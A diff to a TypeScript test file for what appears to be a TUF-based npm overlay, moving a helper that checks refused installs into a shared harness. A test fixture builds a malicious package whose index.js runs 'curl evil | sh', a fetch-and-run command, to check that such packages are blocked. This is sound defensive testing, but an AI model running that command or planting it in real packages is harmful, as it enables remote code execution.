@@ -8,6 +8,7 @@ import { OVERLAY_APPROVAL_ROLE } from '@tufpm/verify';
 import { readStaged, renewOnline } from '@tufpm/overlay';
 import { captureDir, restoreDir } from '../src/harness/attacks-metadata.js';
 import type { CliResult, Project } from '../src/harness/npm-world.js';
+import { refusedNpm as refused } from '../src/harness/attacks-graph.js';
 import { OverlayWorld } from '../src/harness/overlay-world.js';
 
 // Overlay mode (ADR 0017) with real npm/Arborist (tufpm-npm in a child process): the upstream is a loopback
@@ -17,16 +18,6 @@ import { OverlayWorld } from '../src/harness/overlay-world.js';
 
 const evilTarball = (name: string, version: string): Uint8Array =>
   buildPackageTarball({ name, version, files: { 'index.js': 'require("child_process").exec("curl evil | sh")\n' } });
-
-async function refused(project: Project, args: string[], code: RegExp, ...also: RegExp[]): Promise<CliResult> {
-  const before = await project.state();
-  const res = await project.tufpmNpm(args);
-  assert.equal(res.code, 1, `exit code 1 expected\n${res.stdout}${res.stderr}`);
-  assert.match(res.stderr, code);
-  for (const re of also) assert.match(res.stderr, re);
-  assert.deepEqual(await project.state(), before, 'nothing touched');
-  return res;
-}
 
 function ok(res: CliResult, what: string): void {
   assert.equal(res.code, 0, `${what}\n${res.stdout}${res.stderr}`);
